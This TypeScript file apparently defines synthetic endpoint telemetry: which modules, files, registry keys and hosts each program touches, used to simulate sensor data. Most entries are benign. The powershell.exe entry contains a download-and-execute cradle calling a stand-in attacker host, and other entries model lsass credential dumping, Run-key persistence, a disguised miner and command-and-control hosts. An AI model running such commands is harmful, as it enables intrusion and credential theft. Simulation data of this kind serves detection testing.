/*
 * What programs do, by name: modules they load, files and registry values they write, whom they talk to. `{home}`,
 * `{user}`, `{sid}` and `{N}` (a number below N) are filled in.
 */

export interface Habit {
  readonly modules?: readonly ModuleGroup[];
  readonly files?: readonly string[];
  readonly registry?: readonly string[];
  readonly sites?: SiteGroup;
  /** Most connections of one document. */
  readonly connections?: number;
  /** Processes it opens; `!` in front: with a thread put into it. */
  readonly opens?: readonly string[];
  /** Starts helpers that the sensor suppresses. */
  readonly helpers?: readonly (readonly [path: string, commandLine: string])[];
  readonly scripts?: readonly string[];
  /** Programs a ban stopped it from starting. */
  readonly blocked?: readonly (readonly [path: string, status: string])[];
}

export type ModuleGroup = keyof typeof moduleGroups;
export type SiteGroup = keyof typeof sites;

const s32 = 'c:\\windows\\system32\\';

export const moduleGroups = {
  base: [`${s32}ntdll.dll`, `${s32}kernel32.dll`, `${s32}kernelbase.dll`],
  shell: ['user32', 'gdi32', 'comctl32', 'shell32', 'ole32', 'uxtheme', 'msctf'].map((n) => `${s32}${n}.dll`),
  security: ['advapi32', 'sechost', 'rpcrt4', 'cryptbase', 'bcryptprimitives'].map((n) => `${s32}${n}.dll`),
  network: ['ws2_32', 'dnsapi', 'winhttp', 'iphlpapi', 'crypt32', 'mswsock'].map((n) => `${s32}${n}.dll`),
  accounts: ['netapi32', 'netutils', 'srvcli', 'wkscli', 'samcli', 'mpr'].map((n) => `${s32}${n}.dll`),
  dotnet: ['clr.dll', 'mscorlib.ni.dll', 'system.ni.dll', 'clrjit.dll'].map(
    (n) => `c:\\windows\\microsoft.net\\framework64\\v4.0.30319\\${n}`,
  ),
  powershell: [`${s32}windowspowershell\\v1.0\\pspluginwkr.dll`, `${s32}amsi.dll`, `${s32}mscoree.dll`],
  office: ['mso.dll', 'oart.dll', 'riched20.dll'].map(
    (n) => `c:\\program files\\microsoft office\\office15\\${n}`,
  ),
  macros: ['c:\\program files\\common files\\microsoft shared\\vba\\vba7.1\\vbe7.dll'],
  browser: ['chrome.dll', 'chrome_elf.dll', 'libegl.dll'].map(
    (n) => `c:\\program files (x86)\\google\\chrome\\application\\119.0.6045.124\\${n}`,
  ),
  dumper: [`${s32}dbghelp.dll`, `${s32}dbgcore.dll`, `${s32}vaultcli.dll`],
  libc: ['/usr/lib64/ld-2.28.so', '/usr/lib64/libc-2.28.so', '/usr/lib64/libpthread-2.28.so'],
  tls: ['/usr/lib64/libssl.so.1.1', '/usr/lib64/libcrypto.so.1.1'],
  darwin: ['/usr/lib/dyld', '/usr/lib/libsystem.b.dylib', '/usr/lib/libobjc.a.dylib'],
} as const;

/** Name and address; the port is 443 unless the name says otherwise. */
export const sites = {
  web: [
    'www.northwind-lab.example 203.0.113.10',
    'cdn.example.net 203.0.113.24',
    'static.example.org 198.51.100.7',
    'news.example.com 198.51.100.61',
    'mail.example.com 198.51.100.25',
    'search.example 192.0.2.80',
    'video.example.com.au 192.0.2.144',
    'shop.example.co.uk 192.0.2.201',
    'fonts.example.net 203.0.113.77',
    'intranet.corp.northwind-lab.example:80 10.20.2.15',
  ],
  updates: [
    'update.example.com 198.51.100.130',
    'download.windowsupdate.example 198.51.100.131',
    'ctldl.windowsupdate.example:80 198.51.100.132',
    'telemetry.example.com 198.51.100.133',
  ],
  mail: ['outlook.office.example 203.0.113.140', 'autodiscover.corp.northwind-lab.example 10.20.2.25'],
  domain: [
    'corp-dc-01.corp.northwind-lab.example:389 10.20.0.10',
    'corp-dc-01.corp.northwind-lab.example:88 10.20.0.10',
    'srv-file-01.corp.northwind-lab.example:445 10.20.2.11',
  ],
  names: ['corp-dc-01.corp.northwind-lab.example:53/17 10.20.0.10'],
  command: [
    'beacon.bad-actor.example 203.0.113.66',
    'cdn-sync.bad-actor.example:8443 203.0.113.67',
    ':4444 198.51.100.213',
  ],
  pool: ['pool.example.invalid:3333 198.51.100.222'],
  packages: ['mirror.example.org:80 192.0.2.31', 'registry.example.net 192.0.2.32'],
  inbound: ['<:22 10.20.1.14', '<:22 10.20.40.30', '<:443 198.51.100.90', '<:80 198.51.100.91'],
} as const;

const office: Habit = {
  modules: ['shell', 'security', 'office'],
  files: [
    '{home}\\appdata\\local\\microsoft\\office\\unsavedfiles\\~wrd{1000}.tmp',
    '{home}\\documents\\report {20}.docx',
    '{home}\\appdata\\roaming\\microsoft\\templates\\~$normal.dotm',
  ],
  registry: [
    '\\registry\\user\\{sid}\\software\\microsoft\\office\\15.0\\common\\roaming\\identities\\{8}',
    '\\registry\\user\\{sid}\\software\\microsoft\\office\\15.0\\word\\resiliency\\startupitems\\{90}',
  ],
  sites: 'mail',
  connections: 2,
};

const browser: Habit = {
  modules: ['shell', 'security', 'network', 'browser'],
  files: [
    '{home}\\appdata\\local\\google\\chrome\\user data\\default\\cache\\f_00{4000}',
    '{home}\\appdata\\local\\google\\chrome\\user data\\default\\cookies-journal',
    '{home}\\appdata\\local\\google\\chrome\\user data\\default\\history-journal',
    '{home}\\downloads\\statement {30}.pdf',
  ],
  registry: ['\\registry\\user\\{sid}\\software\\google\\chrome\\blbeacon\\state'],
  sites: 'web',
  connections: 6,
};

const console: Habit = { modules: ['security'] };
const accounts: Habit = { modules: ['security', 'accounts'], sites: 'domain', connections: 1 };
const unixTool: Habit = { modules: ['libc'] };

export const windowsDefault: Habit = { modules: ['security', 'shell'] };
export const linuxDefault: Habit = unixTool;
export const macDefault: Habit = { modules: ['darwin'] };

export const habits: Readonly<Record<string, Habit>> = {
  'chrome.exe': browser,
  'winword.exe': { ...office, modules: ['shell', 'security', 'office', 'macros'] },
  'excel.exe': office,
  'outlook.exe': {
    ...office,
    files: [
      '{home}\\appdata\\local\\microsoft\\outlook\\{user}.ost',
      '{home}\\appdata\\local\\temp\\invoice {90}.docm',
    ],
    connections: 4,
  },
  'adobearm.exe': {
    modules: ['shell', 'network'],
    files: ['{home}\\appdata\\local\\temp\\armui.ini', '{home}\\appdata\\local\\temp\\adobearm.log'],
    sites: 'updates',
    connections: 1,
  },
  'cmd.exe': {
    ...console,
    files: [
      '{home}\\appdata\\local\\temp\\setup{4096}.exe',
      '{home}\\appdata\\local\\temp\\helper.dll',
      'c:\\windows\\temp\\log{64}.txt',
    ],
    helpers: [
      [`${s32}find.exe`, 'find  "LISTENING"'],
      [`${s32}chcp.com`, 'chcp  65001'],
    ],
    blocked: [['{home}\\downloads\\keygen.exe', 'a-ProcessTerminated']],
  },
  'net.exe': accounts,
  'net1.exe': accounts,
  'whoami.exe': accounts,
  'ping.exe': { modules: ['security', 'network'], sites: 'names', connections: 1 },
  'powershell.exe': {
    modules: ['security', 'shell', 'dotnet', 'powershell'],
    files: [
      '{home}\\appdata\\local\\temp\\__psscriptpolicytest_{4096}.ps1',
      '{home}\\appdata\\roaming\\updater\\svch0st.exe',
    ],
    registry: ['\\registry\\user\\{sid}\\software\\microsoft\\windows\\currentversion\\run\\updater'],
    sites: 'command',
    connections: 2,
    opens: [`${s32}csrss.exe`],
    scripts: ['iex ((new-object net.webclient).downloadstring("https://beacon.bad-actor.example/a"))'],
  },
  'svch0st.exe': {
    modules: ['network', 'security', 'dumper'],
    files: [
      'c:\\users\\public\\evil.exe',
      'c:\\programdata\\ntuser.pol',
      '{home}\\appdata\\local\\temp\\lsass.dmp',
    ],
    registry: [
      '\\registry\\user\\{sid}\\software\\microsoft\\windows\\currentversion\\run\\updater',
      '\\registry\\machine\\system\\currentcontrolset\\services\\wupdsvc\\imagepath',
    ],
    sites: 'command',
    connections: 5,
    opens: [`!${s32}lsass.exe`, `${s32}winlogon.exe`],
  },
  'evil.exe': {
    modules: ['network'],
    files: ['c:\\users\\public\\loader.exe'],
    sites: 'command',
    connections: 2,
    opens: ['!c:\\windows\\explorer.exe'],
  },
  'explorer.exe': {
    modules: ['shell', 'security', 'network'],
    files: [
      '{home}\\appdata\\roaming\\microsoft\\windows\\recent\\notes.lnk',
      '{home}\\desktop\\notes.txt',
      '{home}\\downloads\\tools.zip',
    ],
    registry: [
      '\\registry\\user\\{sid}\\software\\microsoft\\windows\\currentversion\\explorer\\recentdocs\\{150}',
      '\\registry\\user\\{sid}\\software\\microsoft\\windows\\currentversion\\explorer\\runmru\\a',
    ],
    blocked: [['{home}\\downloads\\keygen.exe', 'a-ProcessTerminated']],
  },
  'svchost.exe': {
    modules: ['security', 'network'],
    files: [
      'c:\\windows\\softwaredistribution\\datastore\\logs\\edb.log',
      'c:\\windows\\prefetch\\cmd.exe-{4096}.pf',
    ],
    registry: [
      '\\registry\\machine\\software\\microsoft\\windows\\currentversion\\windowsupdate\\auto update\\results\\detect',
      '\\registry\\machine\\system\\currentcontrolset\\services\\w32time\\config\\lastknowngoodtime',
      // A stick that was plugged in: disks as devices are of this class.
      '\\registry\\machine\\system\\currentcontrolset\\control\\deviceclasses\\{53f56307-b6bf-11d0-94f2-00a0c91efb8b}\\##?#usbstor#disk&ven_kingston&prod_datatraveler_3.0&rev_pmap#{4096}&0#{53f56307-b6bf-11d0-94f2-00a0c91efb8b}\\control',
    ],
    sites: 'updates',
    connections: 3,
  },
  'services.exe': {
    modules: ['security'],
    registry: ['\\registry\\machine\\system\\currentcontrolset\\services\\bits\\start'],
  },
  'lsass.exe': { modules: ['security', 'accounts'], sites: 'domain', connections: 3 },
  'cb.exe': {
    modules: ['network', 'security'],
    files: ['c:\\windows\\carbonblack\\eventlogs\\active-event.log'],
    opens: [`${s32}lsass.exe`],
  },
  'taskhost.exe': {
    modules: ['security', 'shell'],
    registry: [
      '\\registry\\user\\{sid}\\software\\microsoft\\windows\\currentversion\\action center\\checks\\{6}',
    ],
  },
  'wermgr.exe': {
    modules: ['network'],
    files: ['c:\\programdata\\microsoft\\windows\\wer\\reportqueue\\appcrash_{4096}\\report.wer'],
    sites: 'updates',
    connections: 1,
  },
  'msiexec.exe': {
    modules: ['security', 'shell'],
    files: ['c:\\windows\\installer\\msi{4096}.tmp', 'c:\\program files\\7-zip\\7z.exe'],
    registry: [
      '\\registry\\machine\\software\\microsoft\\windows\\currentversion\\uninstall\\7-zip\\displayname',
    ],
  },
  'searchindexer.exe': {
    modules: ['security'],
    files: ['c:\\programdata\\microsoft\\search\\data\\applications\\windows\\windows.edb'],
  },
  'psexesvc.exe': { modules: ['security', 'accounts'], opens: [`${s32}services.exe`] },
  sshd: { modules: ['libc', 'tls'], sites: 'inbound', connections: 1 },
  nginx: { modules: ['libc', 'tls'], files: ['/var/log/nginx/access.log'], sites: 'inbound', connections: 4 },
  curl: { modules: ['libc', 'tls'], files: ['/tmp/install.sh'], sites: 'packages', connections: 1 },
  yum: {
    modules: ['libc', 'tls'],
    files: ['/var/cache/yum/x86_64/base/repomd.xml', '/var/lib/rpm/packages'],
    sites: 'packages',
    connections: 3,
  },
  kswapd0: { modules: ['libc', 'tls'], files: ['/tmp/.x11-unix/.x/pid'], sites: 'pool', connections: 3 },
  bash: {
    modules: ['libc'],
    files: ['{home}/.bash_history'],
    blocked: [['/dev/shm/evil', 'b-NotTerminatedCBProcess']],
  },
  logrotate: { modules: ['libc'], files: ['/var/log/messages-{30}', '/var/lib/logrotate/logrotate.status'] },
  safari: {
    modules: ['darwin'],
    files: ['{home}/library/caches/com.apple.safari/cache.db-wal'],
    sites: 'web',
    connections: 5,
  },
  softwareupdated: { modules: ['darwin'], sites: 'updates', connections: 2 },
  agent: {
    modules: ['darwin'],
    files: ['{home}/library/launchagents/com.update.agent.plist'],
    sites: 'command',
    connections: 2,
  },
};
